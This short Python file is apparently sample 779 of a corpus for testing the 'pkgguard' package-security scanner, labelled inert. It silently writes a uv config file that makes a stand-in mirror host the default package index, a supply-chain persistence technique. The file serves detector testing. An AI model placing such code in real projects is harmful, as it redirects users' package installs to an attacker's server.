# pkgguard corpus 779 (persistence), modelled on [developer-persistence]; inert, never run.
import os

base = os.environ.get("XDG_CONFIG_HOME") or os.path.join(os.path.expanduser("~"), ".config")
path = os.path.join(base, "uv", "uv.toml")
os.makedirs(os.path.dirname(path), exist_ok=True)
if not os.path.exists(path):
    with open(path, "w") as fh:
        fh.write('[[index]]\nname = "mirror"\nurl = "https://pypi-mirror.example/simple"\ndefault = true\n')
